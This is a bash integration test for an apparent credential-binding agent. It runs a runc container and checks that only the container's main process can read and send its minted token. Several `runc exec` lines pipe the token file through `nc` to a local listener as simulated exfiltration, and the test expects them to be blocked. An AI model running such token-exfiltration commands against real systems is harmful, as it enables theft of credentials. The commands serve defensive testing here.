#!/usr/bin/env bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
# A real container (runc: its own PID namespace and cgroup, busybox inside).
# The token is minted for the container's main process, by its host PID, into
# a directory bind-mounted into the container. A `runc exec` shell, which is
# what `kubectl exec` gives, is a sibling of the main process: its one-liner
# ($(cat TOKEN)), its pipe and its copy get no byte of the token to a
# listener, and each refusal names the exec'd process and the bound one. The
# main process and what it forks (minted with inherit children) still read
# and send it.
. "$(dirname "$0")/lib.sh"
command -v runc >/dev/null || skip "runc is not installed (the README's test command installs it)"
BB=$(command -v busybox || true)
[ -n "$BB" ] && ! ldd "$BB" >/dev/null 2>&1 ||
	skip "a static busybox is needed for the container's root (busybox-static)"

CTR=pbtest-$$
RUNC=(runc --root "$T/runc")
v1_cleanup() {
	"${RUNC[@]}" delete -f "$CTR" >/dev/null 2>&1
	# runc made the parent in each cgroup v1 hierarchy of a hybrid layout
	for d in /sys/fs/cgroup/*/"pbtest-$$"; do
		[ -d "$d" ] && find "$d" -depth -type d -exec rmdir {} + 2>/dev/null
	done
	return 0
}
trap 'rc=$?; set +e; v1_cleanup; (exit $rc); cleanup' EXIT

start_agent
SINK=$((PORT + 1))
"$ACTOR" sink "$SINK" "$T/sink.log" >"$T/sinkd.out" 2>&1 &
PIDS+=($!)
wait_line sinkd "sinking"

B=$T/bundle
mkdir -p "$B/rootfs/bin" "$B/rootfs/proc" "$B/rootfs/dev" "$B/rootfs/tmp" "$T/secrets"
cp "$BB" "$B/rootfs/bin/busybox"
for a in $("$B/rootfs/bin/busybox" --list); do [ "$a" = busybox ] || ln -s busybox "$B/rootfs/bin/$a"; done
(cd "$B" && runc spec)
# (busybox has nc, not curl: the request is written by hand. The main
# process reads the token in a child of its own: inherit children covers
# children, not the grandchild a pipeline's $(...) would be.)
# The host's loopback (no network namespace), so the listener is reachable;
# a cgroup below the test's, where the policy's identity matches.
MAIN='while [ ! -e /run/secrets/go ]; do sleep 0.1; done
cat /run/secrets/tok >/dev/null && echo main-read-ok
TOKEN=$(cat /run/secrets/tok)
printf "GET /main HTTP/1.0\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n" "$TOKEN" | nc -w 2 127.0.0.1 '$SINK'
echo main-sent
sleep 600'
jq --arg main "$MAIN" --arg cg "/pbtest-$$/ctr" --arg sec "$T/secrets" '
	.process.terminal = false | .process.args = ["sh", "-c", $main] |
	.linux.namespaces = [.linux.namespaces[] | select(.type != "network")] |
	.linux.cgroupsPath = $cg |
	.mounts += [{destination: "/run/secrets", type: "bind", source: $sec, options: ["rbind", "rw"]}]' \
	"$B/config.json" >"$B/c.json" && mv "$B/c.json" "$B/config.json"
(cd "$B" && "${RUNC[@]}" run -d "$CTR" >"$T/ctr.out" 2>&1 </dev/null) || { cat "$T/ctr.out"; fail "runc run"; }
MAINPID=$("${RUNC[@]}" state "$CTR" | jq .pid)
[ "$MAINPID" -gt 0 ] || fail "no container pid"
grep -q "/pbtest-$$/ctr$" /proc/$MAINPID/cgroup || fail "the container is not in /pbtest-$$/ctr"
pass "container $CTR runs, main process host PID $MAINPID (PID 1 in its namespace)"

# runc run -d returns once the container is created; its init may not have
# exec'd sh yet, and a credential is bound to the executable its process
# runs when minted (runc's, then: exe_changed at sh's first read)
for _ in $(seq $((100 * SCALE))); do
	read -r comm <"/proc/$MAINPID/comm" && [ "$comm" = sh ] && break
	sleep 0.05
done
[ "$comm" = sh ] || fail "the container's main process never exec'd sh (comm $comm)"
ID=$(mint "$MAINPID" "$T/secrets/tok" --inherit children)
[ -n "$ID" ] || fail "mint for the container's main process"
touch "$T/secrets/go"
for _ in $(seq $((100 * SCALE))); do file_has "$T/ctr.out" main-sent && break; sleep 0.1; done
grep -q main-read-ok "$T/ctr.out" || { cat "$T/ctr.out"; fail "the main process could not read its token"; }
for _ in $(seq $((100 * SCALE))); do file_has "$T/sink.log" 'Bearer pb1\.' && break; sleep 0.05; done
grep -q "Bearer pb1\\." "$T/sink.log" || { cat "$T/sink.log" "$T/ctr.out"; grep credential_ "$OUT"; fail "the main process's token did not reach the listener"; }
pass "the main process (and the cat it forks) read the token and send it"

# kubectl exec: a shell beside the main process
cx() { "${RUNC[@]}" exec "$CTR" sh -c "$1" >>"$T/exec.out" 2>&1 || true; }
cx "printf 'GET /exec-one-liner HTTP/1.0\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n' \"\$(cat /run/secrets/tok)\" | nc -w 2 127.0.0.1 $SINK"
cx "cat /run/secrets/tok | nc -w 2 127.0.0.1 $SINK"
cx "cp /run/secrets/tok /tmp/copy; nc -w 2 127.0.0.1 $SINK </tmp/copy"
cat "$T/exec.out"
grep -q "Operation not permitted" "$T/exec.out" || fail "the exec'd shell's cat was not refused"
sleep 0.5
[ "$(grep -c 'pb1\.' "$T/sink.log")" = 1 ] || { cat "$T/sink.log"; fail "a runc exec shell got the token to the listener"; }
grep -q "exec-one-liner" "$T/sink.log" || fail "the exec'd one-liner's request never reached the listener"
pass "the runc exec shell's one-liner, pipe and copy got no byte of the token out"

ev=$(wait_event ".event==\"credential_open_refused\" and .process.comm==\"cat\"")
echo "$ev" | jq -e --argjson m "$MAINPID" --arg id "$ID" '.reason=="foreign_pid" and .verdict=="deny" and
	(.process.cgroup|endswith("/ctr")) and .process.pid_ns=="host" and .credential.id==$id and
	.credential.bound_process.pid==$m' >/dev/null || fail "refusal event: $ev"
wait_event ".event==\"credential_open_refused\" and .process.comm==\"cp\"" >/dev/null
pass "each refusal names the exec'd process and the container's main process (host PIDs)"
